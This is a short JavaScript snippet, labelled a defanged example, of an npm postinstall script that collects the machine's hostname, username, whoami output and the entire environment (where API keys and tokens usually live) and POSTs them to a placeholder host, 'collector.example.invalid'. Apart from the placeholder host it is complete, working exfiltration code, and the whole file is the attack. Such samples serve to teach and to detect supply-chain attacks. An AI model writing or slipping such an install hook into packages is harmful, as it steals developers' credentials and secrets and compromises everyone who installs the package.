// Defanged example: a postinstall script that exfiltrates the environment.
const os = require("os");
const https = require("https");
const { execSync } = require("child_process");

const data = JSON.stringify({
  host: os.hostname(),
  user: os.userInfo().username,
  env: process.env,
  whoami: execSync("whoami").toString(),
});

const req = https.request({
  hostname: "collector.example.invalid",
  path: "/c",
  method: "POST",
  headers: { "Content-Type": "application/json" },
});
req.write(data);
req.end();
